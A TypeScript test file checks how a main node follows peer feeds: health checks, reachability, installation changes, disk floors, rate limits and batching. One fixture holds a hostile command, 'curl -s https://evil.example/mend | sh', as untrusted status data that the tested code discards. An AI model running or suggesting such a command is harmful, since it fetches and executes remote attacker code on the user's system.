import { randomUUIDv7 } from "node:crypto";
import { type FeedEntry, type Health, TasukiError } from "@tasuki/protocol";
import type { Position } from "@tasuki/store";
import { endlessDisk } from "@tasuki/store/testing";
import { expect, test } from "vitest";
import { type BusClient, watchFeed } from "@tasuki/bus";
import { followFeed, type FollowFeedDeps } from "./follow-feed.ts";
import { type FlowState, newFlow, newStage } from "@tasuki/flow";
import type { RunFact } from "./run-steps.ts";

const quiet = { debug: () => undefined, info: () => undefined, warn: () => undefined, error: () => undefined };
const healthOf = (instance: string, feed: number): Health => ({
  node: "sg",
  role: "sg",
  instance,
  version: "0",
  contracts: { reads: {}, writes: {} },
  clock: new Date(0).toISOString(),
  store: { state: "ok", feed },
  identity: { provider: "loopback", state: "ok" },
});

/** Main's follower of a node of sg: what a follower calls of the bus, the store and the run's steps is the test's. */
function startFollowing({
  client,
  store,
  steps,
  reachability,
  diskFloor = endlessDisk,
  read = async (entries) => entries.map(() => ({ facts: [], envelopes: [], texts: [], cost: 0 })),
  pinned = ["sg"],
  untilAwaited = async (signal) => void (await untilEnded(signal)),
}: {
  client: Partial<BusClient>;
  store?: Partial<FollowFeedDeps["store"]>;
  steps?: Partial<FollowFeedDeps["steps"]>;
  reachability?: FollowFeedDeps["reachability"];
  read?: FollowFeedDeps["read"];
  diskFloor?: FollowFeedDeps["diskFloor"];
  pinned?: readonly string[];
  untilAwaited?: FollowFeedDeps["untilAwaited"];
}): AsyncDisposable {
  const ended = new AbortController();
  const nothing = async (): Promise<void> => undefined;
  const deps = {
    role: "sg",
    node: "sg",
    client,
    store: { position: async () => undefined, savePeer: nothing, ...store },
    reachability: { set: () => undefined, ...reachability },
    steps: { setInstalled: nothing, apply: nothing, onChange: () => () => undefined, ...steps },
    trust: { nodes: () => pinned },
    read,
    diskFloor,
    clock: { now: () => 0, monotonic: () => 0 },
    logger: quiet,
    backoff: () => 1,
    digests: {},
    skews: { read: () => undefined },
    untilAwaited,
  };
  const following = followFeed(deps as unknown as FollowFeedDeps, ended.signal); // the parts that a follower calls
  return {
    async [Symbol.asyncDispose]() {
      ended.abort();
      await following;
    },
  };
}

const untilEnded = (signal: AbortSignal): Promise<unknown> =>
  new Promise((resolve) => (signal.aborted ? resolve(undefined) : signal.addEventListener("abort", resolve, { once: true })));

test("a node that a closing run waits for is unreachable once it does not answer, though its connection is open, and is asked until it answers", async () => {
  const told: boolean[] = [];
  const silent = Promise.withResolvers<void>();
  const back = Promise.withResolvers<void>();
  let [isAwaited, isStopped, asked] = [true, false, 0];
  await using _ = startFollowing({
    untilAwaited: async (signal) => void (isAwaited || (await untilEnded(signal))),
    client: {
      async health({ signal } = {}) {
        asked += 1;
        if (isStopped) await untilEnded(signal ?? AbortSignal.abort());
        signal?.throwIfAborted();
        return healthOf("one", 0);
      },
      async *watch(_from, { signal }): AsyncGenerator<FeedEntry, void, undefined> {
        isStopped = true;
        await untilEnded(signal);
        yield* [];
      },
    },
    reachability: {
      set(_node, is) {
        told.push(is);
        if (!is) silent.resolve();
        if (is && told.includes(false)) back.resolve();
      },
    },
  });
  await silent.promise;
  const before = asked;
  [isAwaited, isStopped] = [false, false];
  await back.promise;
  expect(told).toEqual([true, false, true]);
  expect(asked).toBeGreaterThan(before);
});

// guarantees: R11.peers
test("a node that is another installation at each answer is followed six times within an hour, and no more then", async () => {
  const followed: string[] = [];
  const problems: string[] = [];
  const refused = Promise.withResolvers<void>();
  const client: Partial<BusClient> = {
    health: async () => healthOf(randomUUIDv7(), 0),
    async *watch(_from, { onState }): AsyncGenerator<FeedEntry, void, undefined> {
      onState?.("connected");
      yield* [];
    },
  };
  await using _ = startFollowing({
    client,
    steps: { setInstalled: async ({ instance }) => void followed.push(instance) },
    reachability: {
      set(_node, _is, problem) {
        if (problem !== undefined && problems.push(problem) === 3) refused.resolve();
      },
    },
  });
  await refused.promise;
  expect(new Set(followed).size).toBeLessThanOrEqual(6);
  expect(problems[0]).toContain("sg was 6 installations within an hour");
});

// guarantees: R5.ends
test("a node that is asked about a stage while its entries are on their way into the store does not set the position back", async () => {
  const [same, other] = [randomUUIDv7(), randomUUIDv7()];
  const positions: number[] = [];
  const both = Promise.withResolvers<void>();
  const checked = Promise.withResolvers<void>();
  let answers = 0;
  let tell: ((state: FlowState) => void) | undefined;
  const client: Partial<BusClient> = {
    async health() {
      if ((answers += 1) === 2) checked.resolve();
      return healthOf(same, 1);
    },
    async *watch(from, { signal }): AsyncGenerator<FeedEntry, void, undefined> {
      yield { index: from, leaf: "{}", envelopes: [] };
      await untilEnded(signal);
    },
  };
  const keep = (next: number | undefined): void => {
    if (next !== undefined && positions.push(next) === 3) both.resolve();
  };
  await using _ = startFollowing({
    client,
    steps: {
      onChange(listener) {
        tell = (state) => listener(state, state);
        return () => undefined;
      },
      setInstalled: async ({ next }) => keep(next),
      async apply({ position }) {
        const flow = newFlow({ profile: "plain", payload: { run: randomUUIDv7(), from: "ops" }, brief: "b", route: ["sg"], now: 0 });
        tell?.({ ...flow, installed: { sg: same }, stages: [{ ...newStage("sg", 1), rung: "accepted", instance: other }] });
        await checked.promise;
        // The answer to the question is through by now: a later turn of the loop than its promise.
        await new Promise(setImmediate);
        keep(position?.next);
      },
    },
  });
  await both.promise;
  expect(positions).toEqual([0, 1, 1]);
});

const strangers: readonly {
  readonly at: string;
  readonly health: () => Promise<Health>;
  readonly pinned?: readonly string[];
  readonly says: string;
}[] = [
  {
    at: "another node's address",
    health: async () => ({ ...healthOf(randomUUIDv7(), 0), node: "jp", role: "jp" }),
    says: "answers node 'jp'",
  },
  { at: "a node without a pinned key", health: async () => healthOf(randomUUIDv7(), 0), pinned: ["jp"], says: "no pinned key of sg" },
  {
    at: "a node that refuses",
    async health() {
      throw new TasukiError("identity_unavailable", "its files can't be read");
    },
    says: "identity_unavailable: its files can't be read",
  },
];
test.each(strangers)("main follows nothing at $at, and says why", async ({ health, pinned = ["sg"], says }) => {
  const said = Promise.withResolvers<string | undefined>();
  await using _ = startFollowing({
    client: { health },
    pinned,
    steps: { setInstalled: async () => said.resolve("it was followed") },
    reachability: { set: (_node, is, problem) => said.resolve(is ? "it was reachable" : problem) },
  });
  expect(await said.promise).toContain(says);
});

// guarantees: R5.ends
// guarantees: R11.peers
test.each([
  ["has something next that is no entry", new TasukiError("unavailable", "An entry of the feed can't be read: envelopes."), []],
  ["skips an entry", undefined, [{ index: 4, leaf: "{}", envelopes: [] }]],
])("a node whose feed %s is shown with that, until something of it can be read again", async (_what, fault, skipping) => {
  const instance = randomUUIDv7();
  const seen: string[] = [];
  const read = Promise.withResolvers<void>();
  let connections = 0;
  const client: Partial<BusClient> = {
    health: async () => healthOf(instance, 9),
    async *watch(from, { signal, onState, onKnown }): AsyncGenerator<FeedEntry, void, undefined> {
      connections += 1;
      onState?.("connected");
      onKnown?.();
      if (connections <= 3) {
        yield* skipping;
        if (fault !== undefined) throw fault;
      } else yield { index: from, leaf: "{}", envelopes: [] };
      await untilEnded(signal);
    },
  };
  await using _ = startFollowing({
    client,
    reachability: {
      set(_node, is, problem) {
        seen.push(problem ?? String(is));
        if (is && connections === 4) read.resolve();
      },
    },
  });
  await read.promise;
  const problems = seen.filter((one) => one.includes("the feed of sg can't be read on"));
  expect(problems).toHaveLength(3);
  // From the first problem to the last it is never shown as reachable between.
  expect(seen.slice(seen.indexOf(problems[0] ?? ""), seen.lastIndexOf(problems[0] ?? "") + 1)).toEqual(problems);
});

test("a stage on an installation that main does not know has its node asked, once, which of the two is gone", async () => {
  const [same, other] = [randomUUIDv7(), randomUUIDv7()];
  const followed: string[] = [];
  const asked = Promise.withResolvers<void>();
  let answers = 0;
  let tell: ((state: FlowState) => void) | undefined;
  const client: Partial<BusClient> = {
    async health() {
      answers += 1;
      return healthOf(same, 0);
    },
    async *watch(_from, { signal }): AsyncGenerator<FeedEntry, void, undefined> {
      const flow = newFlow({ profile: "plain", payload: { run: randomUUIDv7(), from: "ops" }, brief: "b", route: ["sg"], now: 0 });
      const state: FlowState = { ...flow, installed: { sg: same }, stages: [{ ...newStage("sg", 1), rung: "accepted", instance: other }] };
      for (let time = 0; time < 3; time += 1) tell?.(state);
      await untilEnded(signal);
      yield* [];
    },
  };
  {
    await using _ = startFollowing({
      client,
      steps: {
        onChange(listener) {
          tell = (state) => listener(state, state);
          return () => (tell = undefined);
        },
        async setInstalled({ instance }) {
          if (followed.push(instance) === 2) asked.resolve();
        },
      },
    });
    await asked.promise;
  }
  expect([followed, answers, tell]).toEqual([[same, same], 2, undefined]);
});

// guarantees: R11.peers
test("below the disk's floor a feed waits at its node, and goes on where it was when there is room", async () => {
  const applied: (number | undefined)[] = [];
  const done = Promise.withResolvers<void>();
  let looks = 0;
  const client: Partial<BusClient> = {
    health: async () => healthOf(same, 1),
    async *watch(from, { signal, onState }): AsyncGenerator<FeedEntry, void, undefined> {
      onState?.("connected");
      yield { index: from, leaf: "{}", envelopes: [] };
      await untilEnded(signal);
    },
  };
  const same = randomUUIDv7();
  await using _ = startFollowing({
    client,
    diskFloor: {
      async reserve(bytes) {
        if ((looks += 1) < 3) throw new TasukiError("disk_full", "no room");
        return endlessDisk.reserve(bytes);
      },
    },
    steps: {
      async apply({ position }) {
        applied.push(position?.next);
        done.resolve();
      },
    },
  });
  await done.promise;
  expect([looks, applied]).toEqual([3, [1]]);
});

// guarantees: R10.replaced
test("a connection of which it can't be found out who is at its other end is given up: another installation is read from its first entry", async () => {
  const [before, after] = [randomUUIDv7(), randomUUIDv7()];
  const away = (): never => {
    throw new TasukiError("unreachable", "sg did not answer");
  };
  // The node is known at the start of the session; when the connection stands it is replaced, and just then can't be asked.
  const answers = [() => healthOf(before, 3), away];
  let held: Position = { node: "sg", instance: before, next: 3 };
  const watched: number[] = [];
  const done = Promise.withResolvers<void>();
  const client: Partial<BusClient> = {
    health: async () => (answers.shift() ?? (() => healthOf(after, 0)))(),
    async *watch(from, { signal, onState }): AsyncGenerator<FeedEntry, void, undefined> {
      watched.push(from);
      onState?.("connected");
      if (from === 0) done.resolve();
      await untilEnded(signal);
      yield* [];
    },
  };
  await using _ = startFollowing({
    client,
    store: { position: async () => held },
    steps: { setInstalled: async (position) => void (held = position) },
  });
  await done.promise;
  expect(watched).toEqual([3, 0]);
  expect(held).toEqual({ node: "sg", instance: after, next: 0 });
});

// guarantees: R11.contained
test("an entry in the name of another installation is passed over where the node still is the one that is followed", async () => {
  const [same, other] = [randomUUIDv7(), randomUUIDv7()];
  const applied = Promise.withResolvers<number | undefined>();
  let watched = 0;
  const client: Partial<BusClient> = {
    health: async () => healthOf(same, 2),
    async *watch(from, { signal }): AsyncGenerator<FeedEntry, void, undefined> {
      if ((watched += 1) > 3) applied.reject(new Error("the same entry is read again and again"));
      yield { index: from, leaf: "{}", envelopes: [] };
      await untilEnded(signal);
    },
  };
  await using _ = startFollowing({
    client,
    read: async (entries) => entries.map(() => ({ facts: [], envelopes: [], texts: [], cost: 0, instance: other })),
    steps: { apply: async ({ position }) => applied.resolve(position?.next) },
  });
  expect(await applied.promise).toBe(1);
});

// guarantees: R9.shorter
test("what comes while a node is asked for its health makes its answer none of an older copy", async () => {
  const instance = randomUUIDv7();
  let held: Position = { node: "sg", instance, next: 3 };
  let asked = 0;
  const taken = Promise.withResolvers<void>();
  const said: unknown[] = [];
  const answered = Promise.withResolvers<void>();
  const client: Partial<BusClient> = {
    // The second question comes when the connection stands; its answer is given before the fourth entry, and heard after it.
    async health() {
      if ((asked += 1) === 2) await taken.promise;
      return healthOf(instance, 3);
    },
    async *watch(from, { signal, onState }): AsyncGenerator<FeedEntry, void, undefined> {
      onState?.("connected");
      yield { index: from, leaf: "{}", envelopes: [] };
      await untilEnded(signal);
    },
  };
  await using _ = startFollowing({
    client,
    store: { position: async () => held },
    reachability: {
      set(_role, is, problem) {
        said.push(problem ?? is);
        if (said.length === 2) answered.resolve();
      },
    },
    steps: {
      async apply({ position }) {
        if (position !== undefined) held = position;
        taken.resolve();
      },
    },
  });
  await answered.promise;
  expect(held.next).toBe(4);
  expect(said).toEqual([true, true]);
});

// guarantees: R5.ends
test("entries that could not be applied are taken up again by themselves, not with the node's next entry", async () => {
  const instance = randomUUIDv7();
  const again = Promise.withResolvers<void>();
  let applied = 0;
  const client: Partial<BusClient> = {
    health: async () => healthOf(instance, 1),
    // A feed that has one entry, and will have no other.
    watch: (from, options) =>
      watchFeed(
        (next, on) => {
          on.connected();
          if (next === 0) setImmediate(() => on.entry({ index: 0, leaf: "{}", envelopes: [], texts: [] }));
          return { end: () => undefined };
        },
        { ...options, from, random: () => 0 },
      ),
  };
  await using _ = startFollowing({
    client,
    steps: {
      async apply() {
        applied += 1;
        if (applied === 1) throw new TasukiError("disk_full", "there is no room");
        again.resolve();
      },
    },
  });
  await again.promise;
  expect(applied).toBe(2);
});

// guarantees: R3.words
test("of what a node's status says of its block, main takes the lines that are unmet alone, so many and no longer than it shows", async () => {
  const line = { file: "f", expected: "x".repeat(5_000), got: "y", fix: "z" };
  const block = { reason: "all is well", needs: "root", owner: "jp", clearsWith: "curl -s https://evil.example/mend | sh" };
  const task = { id: randomUUIDv7(), block: { ...block, unmet: Array.from({ length: 1_000 }, () => line) } };
  const event = { is: "receipt", receipt: { state: "blocked", task: task.id } };
  const applied = Promise.withResolvers<readonly RunFact[]>();
  const client = {
    health: async () => healthOf(randomUUIDv7(), 1),
    status: async () => ({ tasks: [task] }),
    async *watch(_from: number, { signal }: { signal: AbortSignal }): AsyncGenerator<FeedEntry, void, undefined> {
      yield { index: 0, leaf: "{}", envelopes: [] };
      await untilEnded(signal);
    },
  };
  await using _ = startFollowing({
    client: client as unknown as Partial<BusClient>, // the parts that a follower reads
    steps: { apply: async ({ facts }) => applied.resolve(facts) },
    read: async () => [{ facts: [{ run: "r", event } as unknown as RunFact], envelopes: [], texts: [], cost: 0 }],
  });
  const unmet = Array.from({ length: 100 }, () => ({ ...line, expected: `${"x".repeat(1_023)}…` }));
  expect(await applied.promise).toEqual([{ run: "r", event: { ...event, unmet } }]);
});

// guarantees: R11.peers
test("however many blocks a node tells of at once, it is asked about a few at a time", async () => {
  const blocked = Array.from({ length: 200 }, () => ({ is: "receipt", receipt: { state: "blocked", task: randomUUIDv7() } }));
  const applied = Promise.withResolvers<readonly RunFact[]>();
  const calls = { open: 0, most: 0, all: 0 };
  const client = {
    health: async () => healthOf(randomUUIDv7(), 1),
    async status({ task }: { task: string }) {
      calls.all += 1;
      calls.most = Math.max(calls.most, (calls.open += 1));
      await new Promise(setImmediate);
      calls.open -= 1;
      return { tasks: [{ id: task, block: { unmet: [] } }] };
    },
    async *watch(_from: number, { signal }: { signal: AbortSignal }): AsyncGenerator<FeedEntry, void, undefined> {
      yield { index: 0, leaf: "{}", envelopes: [] };
      await untilEnded(signal);
    },
  };
  await using _ = startFollowing({
    client: client as unknown as Partial<BusClient>, // the parts that a follower reads
    steps: { apply: async ({ facts }) => applied.resolve(facts) },
    read: async () => [{ facts: blocked.map((event) => ({ run: "r", event }) as unknown as RunFact), envelopes: [], texts: [], cost: 0 }],
  });
  expect(await applied.promise).toEqual(blocked.map((event) => ({ run: "r", event: { ...event, unmet: [] } })));
  expect(calls).toEqual({ open: 0, most: 8, all: 200 });
});

// guarantees: R11.words
test("of what a node tells of the silence of an attempt, main takes the last word, and another one a second later at the earliest", async () => {
  const word = (says: unknown, task = "a run"): RunFact =>
    ({ run: task, event: { is: "attempt", node: "sg", stage: "sg", epoch: 1, attempt: 1, says } }) as unknown as RunFact;
  const failed = { outcome: "failed", reason: "it threw", at: 1 };
  const told = Array.from({ length: 200 }, (_, at) => word(at % 2 === 0 ? "active" : { silentSince: at }));
  const batches: { readonly facts: readonly RunFact[]; readonly at: number }[] = [];
  const done = Promise.withResolvers<void>();
  const taken = [Promise.withResolvers<void>(), Promise.withResolvers<void>(), Promise.withResolvers<void>()];
  const client: Partial<BusClient> = {
    health: async () => healthOf(randomUUIDv7(), 3),
    async *watch(_from, { signal }): AsyncGenerator<FeedEntry, void, undefined> {
      for (const [index, one] of taken.entries()) {
        yield { index, leaf: "{}", envelopes: [] };
        await one.promise;
      }
      await untilEnded(signal);
    },
  };
  await using _ = startFollowing({
    client,
    steps: {
      async apply({ facts }) {
        batches.push({ facts, at: performance.now() });
        taken[batches.length - 1]?.resolve();
        if (batches.length === 3) done.resolve();
      },
    },
    read: async ([entry]) => [
      { facts: entry?.index === 1 ? [word(failed)] : [...told, word("active", "another")], envelopes: [], texts: [], cost: 0 },
    ],
  });
  await done.promise;
  const last = [word({ silentSince: 199 }), word("active", "another")];
  expect(batches.map(({ facts }) => facts)).toEqual([last, [word(failed)], last]);
  // The clock of this follower stands still, so that the third waits for the whole second.
  const [, second, third] = batches.map(({ at }) => at);
  expect((third ?? 0) - (second ?? 0)).toBeGreaterThan(990);
});

// guarantees: R11.peers
test("a feed that has main read for nothing waits for as long as that is too much, and what brings something does not", async () => {
  const applied: number[] = [];
  const all = Promise.withResolvers<void>();
  const taken = [0, 1, 2, 3].map(() => Promise.withResolvers<void>());
  const client: Partial<BusClient> = {
    health: async () => healthOf(randomUUIDv7(), taken.length),
    async *watch(_from, { signal }): AsyncGenerator<FeedEntry, void, undefined> {
      for (const [index, one] of taken.entries()) {
        yield { index, leaf: "{}", envelopes: [] };
        await one.promise;
      }
      await untilEnded(signal);
    },
  };
  // The clock of this follower stands still: the second entry is the first that is more than is read at once, by a quarter of a second.
  const costs = [16_384, 256, 0, 0];
  await using _ = startFollowing({
    client,
    read: async (entries) => entries.map(({ index }) => ({ facts: [], envelopes: [], texts: [], cost: costs[index] ?? 0 })),
    steps: {
      async apply() {
        applied.push(performance.now());
        taken[applied.length - 1]?.resolve();
        if (applied.length === taken.length) all.resolve();
      },
    },
  });
  await all.promise;
  const waits = applied.map((at, index) => at - (applied[index - 1] ?? at));
  expect(waits[2]).toBeGreaterThan(240);
  expect(waits[1]).toBeLessThan(waits[2] ?? 0);
});

// guarantees: R11.peers
test("a node whose connection comes and goes has its health written once while it says the same, and again when it says another thing", async () => {
  const instance = randomUUIDv7();
  const saved: string[] = [];
  const done = Promise.withResolvers<void>();
  let asked = 0;
  const client: Partial<BusClient> = {
    async health() {
      if ((asked += 1) > 400) done.resolve();
      return { ...healthOf(instance, asked), clock: new Date(asked).toISOString(), version: asked > 200 ? "1" : "0" };
    },
    async *watch(_from, { onState }): AsyncGenerator<FeedEntry, void, undefined> {
      onState?.("connected");
      yield* [];
    },
  };
  await using _ = startFollowing({ client, store: { savePeer: async ({ health }) => void saved.push((health as Health).version) } });
  await done.promise;
  expect(saved).toEqual(["0", "1"]);
});
